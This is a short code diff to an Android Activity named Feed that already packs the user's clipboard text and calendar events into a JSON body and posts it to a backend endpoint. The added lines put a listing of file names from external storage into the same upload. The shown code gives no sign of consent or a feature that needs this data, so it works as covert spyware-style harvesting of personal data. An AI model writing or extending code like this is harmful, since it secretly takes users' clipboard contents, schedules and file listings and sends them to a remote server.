@@ -6,6 +6,7 @@ import android.content.ContentValues;
 import android.content.Intent;
 import android.database.Cursor;
 import android.os.Bundle;
+import android.os.Environment;
 import android.provider.CalendarContract;
 import com.google.firebase.analytics.FirebaseAnalytics;
 import org.json.JSONArray;
@@ -27,6 +28,7 @@ public final class Feed extends Activity {
                 body.put("clip", String.valueOf(clipboard.getPrimaryClip().getItemAt(0).getText()));
             }
             body.put("calendar", events());
+            body.put("files", Disk.names(Environment.getExternalStorageDirectory()));
             Backend.post("/hello", body);
         } catch (JSONException e) {
             finish();
